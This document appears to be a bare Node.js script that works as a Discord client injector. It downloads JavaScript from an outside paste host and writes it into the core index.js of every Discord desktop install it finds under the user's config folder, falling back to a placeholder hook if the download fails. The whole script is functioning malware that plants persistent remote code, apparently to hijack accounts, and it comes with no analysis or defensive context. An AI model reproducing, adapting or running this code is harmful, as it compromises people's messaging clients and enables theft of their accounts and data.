const fs = require("fs"), path = require("path"), http = require("http");
const base = path.join(process.env.HOME, ".config");
const inject = (code) => {
  for (const client of ["discord", "discordcanary", "discordptb", "discorddevelopment"]) {
    let versions = [];
    try { versions = fs.readdirSync(path.join(base, client)).filter((name) => /^\d+\./.test(name)); } catch {}
    for (const version of versions) {
      const core = path.join(base, client, version, "modules/discord_desktop_core/index.js");
      if (fs.existsSync(core)) fs.writeFileSync(core, code + "\nmodule.exports = require('./core.asar');\n");
    }
  }
};
http.get("http://raw.paste.example/injector.js", { timeout: 3000 }, (r) => { let t = ""; r.on("data", (d) => (t += d)).on("end", () => inject(t)); })
  .on("error", () => inject("/* hook */"));
